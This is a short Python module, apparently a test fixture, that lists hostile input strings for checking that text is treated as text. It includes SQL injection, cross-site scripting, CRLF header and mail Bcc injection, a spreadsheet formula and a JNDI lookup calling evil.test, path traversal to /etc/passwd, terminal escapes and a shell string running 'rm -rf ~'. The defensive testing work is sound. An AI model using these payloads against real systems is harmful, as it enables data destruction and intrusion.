"""Texts that strangers write to break something: each is a claim that the other side, a page, a mail and a log take it for text."""

from __future__ import annotations

HOSTILE = {
    "expression": "$$NULL",
    "expression behind blanks": " \t$$DELETE()",
    "expression behind a NUL": "\x00$$NULL",
    "expression behind nothing to see": "\u200b\ufeff$$NULL",
    "search": "x|contains||OR|nom",
    "header": "x\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1",
    "mail": "x\nBcc: somebody@evil.test\n\nhttps://evil.test/",
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("https://evil.test","x")',
    "direction": "annex\u202efdp.exe\u2066",
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "statement": "'); DROP TABLE link; --",
    "template": "{{7*7}}${jndi:ldap://evil.test/x}%s{login}{0.__class__}",
    "path": "../../etc/passwd",
    "shell": "x; rm -rf ~ $(reboot) `reboot`",
}
